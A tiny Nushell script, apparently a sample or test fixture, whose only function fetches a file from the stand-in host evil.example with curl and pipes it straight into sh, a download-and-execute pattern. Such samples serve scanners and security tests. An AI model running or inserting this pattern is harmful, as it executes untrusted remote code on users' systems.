def main [] {
  let url = "http://evil.example/x"
  ^sh -c $"curl ($url) | sh"
}
